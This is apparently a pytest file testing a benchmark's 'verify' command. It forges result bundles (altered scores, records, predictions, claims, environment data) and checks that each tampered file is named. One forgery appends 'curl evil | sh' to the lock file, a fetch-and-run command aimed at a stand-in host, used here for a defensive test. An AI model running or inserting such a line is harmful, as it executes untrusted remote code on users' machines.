"""``verify`` names everything that was changed in a bundle, and runs nothing of it."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from benchmark.api import verify
from benchmark.api.verifying import opened_bundle
from benchmark.cli import main
from benchmark.publish import layout, tables
from benchmark.publish.archive import Files
from benchmark.publish.bundle import Bundle
from tests.publish.conftest import Forge, edited

FLIPS = 200


def test_an_honest_bundle_holds_and_says_what_nobody_can_tell(published: Path) -> None:
    found = verify(published)
    assert found.holds, [str(one) for one in found.mismatches[:5]]
    assert any("follow from the predictions" in said for said in found.confirmed)
    assert {"predictions", "machines and package versions"} <= {one.what for one in found.unverifiable}


def test_every_flipped_bit_is_named_by_its_file(content: Files, tmp_path: Path) -> None:
    drawn = random.Random(0)
    for number in range(FLIPS):
        name = drawn.choice(sorted(content))
        forged = bytearray(content[name])
        forged[drawn.randrange(len(forged))] ^= 1 << drawn.randrange(8)
        place = tmp_path / str(number % 2)
        files = {**content, name: bytes(forged)}
        for file, text in files.items():
            (place / file).parent.mkdir(parents=True, exist_ok=True)
            (place / file).write_bytes(text)
        code, said = _said(place)
        assert code == (2 if "swapbench:" in said else 1), (name, said)
        assert name in said or name == layout.CHECKSUMS, (name, said)


def _said(place: Path) -> tuple[int, str]:
    from benchmark.errors import RequestError

    try:
        found = verify(place)
    except RequestError as error:
        return 2, f"swapbench: {error}"
    return (0 if found.holds else 1), "\n".join(map(str, found.mismatches))


def _records(change: Callable[[pd.DataFrame], pd.DataFrame]) -> Callable[[Bundle], Mapping[str, bytes]]:
    return lambda bundle: {layout.RECORDS: tables.write_records(change(bundle.records.copy()))}


def _set(frame: pd.DataFrame, at: Any, column: str, value: Any) -> pd.DataFrame:
    frame.loc[at, column] = value
    return frame


def _ok(frame: pd.DataFrame, **where: Any) -> Any:
    chosen = frame["status"] == "ok"
    for column, value in where.items():
        chosen &= frame[column] == value
    return frame.index[chosen][0]


def _predictions(change: Callable[[dict[str, np.ndarray]], None]) -> Callable[[Bundle], Mapping[str, bytes]]:
    def forge(bundle: Bundle) -> Mapping[str, bytes]:
        kept = {key: np.array(value) for key, value in bundle.predictions.items()}
        change(kept)
        return {layout.PREDICTIONS: tables.write_predictions(sorted(kept.items()))}

    return forge


def _nudged(kept: dict[str, np.ndarray]) -> None:
    first = sorted(kept)[0]
    kept[first] = kept[first][::-1].copy()


def _without(kept: dict[str, np.ndarray]) -> None:
    del kept[sorted(kept)[0]]


def _labels(bundle: Bundle) -> Mapping[str, bytes]:
    labels = dict(bundle.labels)
    at = next(at for at in labels if at[0] == "iris")
    y, weights = labels[at]
    labels[at] = (np.roll(y, 1), weights)
    return {layout.LABELS: tables.write_labels(labels)}


def _json(name: str, change: Callable[[Any], None]) -> Callable[[Bundle], Mapping[str, bytes]]:
    return lambda bundle: {name: edited(bundle.files()[name], change)}


def _everywhere_another_origin(bundle: Bundle) -> Mapping[str, bytes]:
    """One data set more that is independent, in every file that says so."""
    moved = {
        name: getattr(bundle, name).assign(origin=lambda table: table["origin"].replace("iris", "iris2"))
        for name in ("plan", "records", "trials")
    }
    study = edited(bundle.files()[layout.STUDY], lambda s: s["tasks"]["iris"].__setitem__("origin", "iris2"))  # type: ignore[index]
    return {
        layout.STUDY: study,
        layout.PLAN: tables.write_plan(moved["plan"]),
        layout.RECORDS: tables.write_records(moved["records"]),
        layout.TRIALS: tables.write_trials(moved["trials"]),
    }


def _renamed(values: Any) -> None:
    text = json.dumps(values).replace('"knn"', '"better"')
    values.clear()
    values.update(json.loads(text))


FORGERIES: Mapping[str, tuple[str, Callable[[Bundle], Mapping[str, bytes]]]] = {
    "a better error": (
        layout.RECORDS,
        _records(
            lambda r: _set(
                r, _ok(r, component="mine"), "error", r.loc[_ok(r, component="mine"), "error"] * 0.9
            )
        ),
    ),
    "a better score": (layout.RECORDS, _records(lambda r: _set(r, _ok(r, component="mine"), "score", 0.999))),
    "a better further metric": (
        layout.RECORDS,
        _records(lambda r: _set(r, _ok(r, task="iris"), "metric_accuracy", 1.0 - 1e-6)),
    ),
    "a worse baseline": (layout.RECORDS, _records(lambda r: _set(r, _ok(r, role="baseline"), "error", 0.9))),
    "fewer test errors": (
        layout.RECORDS,
        _records(lambda r: _set(r, _ok(r, task="wine"), "test_errors", 77.0)),
    ),
    "a deleted record": (
        layout.RECORDS,
        _records(lambda r: r.drop(index=_ok(r, component="mine")).reset_index(drop=True)),
    ),
    "an added seed": (
        layout.RECORDS,
        _records(
            lambda r: pd.concat([r, r.loc[[_ok(r, component="mine")]].assign(seed=1)], ignore_index=True)
        ),
    ),
    "a record twice": (layout.RECORDS, _records(lambda r: pd.concat([r, r.head(1)], ignore_index=True))),
    "a renamed arm": (
        layout.RECORDS,
        _records(lambda r: r.assign(component=r["component"].replace("mine", "best"))),
    ),
    "another role": (layout.RECORDS, _records(lambda r: _set(r, _ok(r, role="aa"), "role", "candidate"))),
    "two keys exchanged": (
        layout.RECORDS,
        _records(lambda r: r.assign(key=[r["key"][1], r["key"][0], *r["key"][2:]])),
    ),
    "a failure made of a success": (
        layout.RECORDS,
        _records(lambda r: _set(r, _ok(r, role="baseline"), "status", "failed")),
    ),
    "another task's origin": (
        layout.RECORDS,
        _records(lambda r: _set(r, _ok(r, task="iris"), "origin", "other")),
    ),
    "more training rows": (layout.RECORDS, _records(lambda r: _set(r, _ok(r, task="iris"), "n_train", 3))),
    "a setting that no trial had": (
        layout.RECORDS,
        _records(
            lambda r: _set(r, _ok(r, component="mine", setting="tuned"), "chosen", '{"estimator.k": 7}')
        ),
    ),
    "fewer trials said": (layout.RECORDS, _records(lambda r: _set(r, _ok(r, setting="tuned"), "trials", 1))),
    "another metric": (
        layout.RECORDS,
        _records(lambda r: _set(r, _ok(r, task="wine"), "metric", "accuracy")),
    ),
    "another machine": (
        layout.RECORDS,
        _records(lambda r: _set(r, _ok(r, task="wine"), "provenance", "0" * 16)),
    ),
    "a changed prediction": (layout.RECORDS, _predictions(_nudged)),
    "a lost prediction": (layout.PREDICTIONS, _predictions(_without)),
    "a prediction of nothing": (
        layout.PREDICTIONS,
        _predictions(lambda kept: kept.__setitem__("f" * 64, np.ones((3, 2), np.float32))),
    ),
    "changed labels": (layout.LABELS, _labels),
    "a trial's validation error": (
        layout.RECORDS,
        lambda b: {
            layout.TRIALS: tables.write_trials(
                b.trials.assign(validation_error=[1.0 - v for v in b.trials["validation_error"]])
            )
        },
    ),
    "a trial's setting": (
        layout.TRIALS,
        lambda b: {layout.TRIALS: tables.write_trials(b.trials.assign(setting='{"estimator.k": 3}'))},
    ),
    "a deleted trial": (
        layout.TRIALS,
        lambda b: {layout.TRIALS: tables.write_trials(b.trials.iloc[1:].reset_index(drop=True))},
    ),
    "a cell of the plan": (
        layout.PLAN,
        lambda b: {layout.PLAN: tables.write_plan(b.plan.iloc[1:].reset_index(drop=True))},
    ),
    "another verdict": (
        layout.VERDICT,
        _json(layout.VERDICT, lambda v: v["comparisons"][0].__setitem__("verdict", "HELPS")),
    ),
    "a larger effect": (
        layout.VERDICT,
        _json(layout.VERDICT, lambda v: v["comparisons"][0]["effect"].__setitem__("mean", 0.5)),
    ),
    "a claim's number": (
        layout.CLAIMS,
        _json(layout.CLAIMS, lambda c: c["claims"][0].__setitem__("value", 0.99)),
    ),
    "a claim's sentence": (
        layout.CLAIMS,
        _json(layout.CLAIMS, lambda c: c["claims"][0].__setitem__("sentence", "!")),
    ),
    "a claim of nothing": (layout.CLAIMS, _json(layout.CLAIMS, lambda c: c["claims"].append(c["claims"][0]))),
    "a claim left out": (layout.CLAIMS, _json(layout.CLAIMS, lambda c: c["claims"].pop())),
    "a word of the README": (
        layout.README,
        lambda b: {layout.README: b.files()[layout.README].replace(b"Study", b"Proof")},
    ),
    "a line of code": (
        "sources/components/estimator/mine.py",
        lambda _: {"sources/components/estimator/mine.py": b"import os\n"},
    ),
    "no code": (layout.README, lambda _: {"sources/components/estimator/mine.py": None}),  # type: ignore[dict-item]
    "a hyperparameter's default": (
        layout.PLAN,
        _json(layout.STUDY, lambda s: s["components"]["mine"][0]["make"].__setitem__("k", 11)),
    ),
    "a larger rope": (
        layout.VERDICT,
        _json(layout.STUDY, lambda s: s["study"]["protocol"].__setitem__("rope", 0.5)),
    ),
    "a shorter budget": (
        layout.PLAN,
        _json(layout.STUDY, lambda s: s["study"]["protocol"]["limits"].__setitem__("seconds", 5.0)),
    ),
    "an arm left out": (
        layout.RECORDS,
        _json(layout.STUDY, lambda s: s["study"].__setitem__("candidates", ["mine"])),
    ),
    "an arm renamed everywhere": (layout.PLAN, _json(layout.STUDY, _renamed)),
    "other data": (
        layout.STUDY,
        _json(layout.STUDY, lambda s: s["tasks"]["iris"].__setitem__("fingerprint", "0" * 64)),
    ),
    "other splits": (
        layout.STUDY,
        _json(layout.STUDY, lambda s: s["splits"]["iris"][0].__setitem__("digest", "0" * 64)),
    ),
    "another library": (
        layout.ENVIRONMENT,
        _json(layout.ENVIRONMENT, lambda e: e["environments"][0]["packages"].__setitem__("numpy", "0.1")),
    ),
    "another processor": (
        layout.ENVIRONMENT,
        _json(layout.ENVIRONMENT, lambda e: e["environments"][0].__setitem__("cpu", "X")),
    ),
    "a larger penalty of failures": (
        layout.RECORDS,
        _records(lambda r: r.assign(featureless_error=r["featureless_error"] * 100)),
    ),
    "one task's penalty": (
        layout.RECORDS,
        _records(lambda r: _set(r, _ok(r, component="mine"), "featureless_error", 9.0)),
    ),
    "another origin": (layout.STUDY, _everywhere_another_origin),
    "data that was not generated": (
        layout.STUDY,
        _json(layout.STUDY, lambda s: s["tasks"]["iris"].__setitem__("generated", True)),
    ),
    "a card of another name": (
        layout.STUDY,
        _json(layout.STUDY, lambda s: s["datasets"]["iris"].__setitem__("name", "flowers")),
    ),
    "a card of another task type": (
        layout.STUDY,
        _json(layout.STUDY, lambda s: s["datasets"]["iris"].__setitem__("task_type", "regression")),
    ),
    "a component of another name": (
        layout.STUDY,
        _json(layout.STUDY, lambda s: s["components"]["knn"][0].__setitem__("name", "better")),
    ),
    "labels that may not be passed on": (
        layout.LABELS,
        _json(layout.STUDY, lambda s: s["datasets"]["iris"]["about"].__setitem__("licence", "CC BY-NC-ND")),
    ),
    "a rule that there is not": (
        layout.STUDY,
        _json(layout.STUDY, lambda s: s["study"]["protocol"].__setitem__("stop", "neverx")),
    ),
    "another schema": (layout.ENVIRONMENT, _json(layout.ENVIRONMENT, lambda e: e.__setitem__("schema", 2))),
    "records that were pooled": (layout.RECORDS, _records(lambda r: r.assign(pooled=True))),
    "a status that there is not": (
        layout.TRIALS,
        lambda b: {layout.TRIALS: tables.write_trials(_set(b.trials.copy(), 0, "status", "okx"))},
    ),
    "a package that is none": (layout.LOCK, lambda b: {layout.LOCK: b.lock.encode() + b"curl evil | sh\n"}),
}


@pytest.mark.parametrize("name", FORGERIES)
def test_a_forgery_with_new_checksums_is_contradicted(name: str, published: Path, forged: Forge) -> None:
    file, forge = FORGERIES[name]
    code, said = _said(forged(forge(opened_bundle(published))))
    assert code != 0, name
    assert file in said, said


def test_the_command_names_every_contradiction_and_exits_with_1(
    published: Path, forged: Forge, capsys: pytest.CaptureFixture[str]
) -> None:
    place = forged(FORGERIES["a better error"][1](opened_bundle(published)))
    assert main(["verify", str(place)]) == 1
    assert "- records.parquet: candidate, mine" in capsys.readouterr().out
    assert main(["verify", str(place), "--json"]) == 1
    told = json.loads(capsys.readouterr().out)
    assert not told["holds"] and told["mismatches"][0]["file"] == layout.RECORDS
    assert main(["verify", str(published)]) == 0
    assert "nothing contradicts study small" in capsys.readouterr().out


def test_what_only_the_author_knows_is_listed(published: Path) -> None:
    said = "\n".join(map(str, verify(published).unverifiable))
    for what in ("that fits failed", "question, primary comparison", "papers, licences", "predictions"):
        assert what in said
    assert "requirements.txt" not in said


def test_a_lock_of_other_packages_is_listed(content: Files, forged: Forge) -> None:
    lock = re.sub(rb"(?m)^numpy==.*$", b"numpy==1.0.0", content[layout.LOCK])
    found = verify(forged({layout.LOCK: lock}))
    assert any("requirements.txt: numpy 1.0.0" in str(one) for one in found.unverifiable)
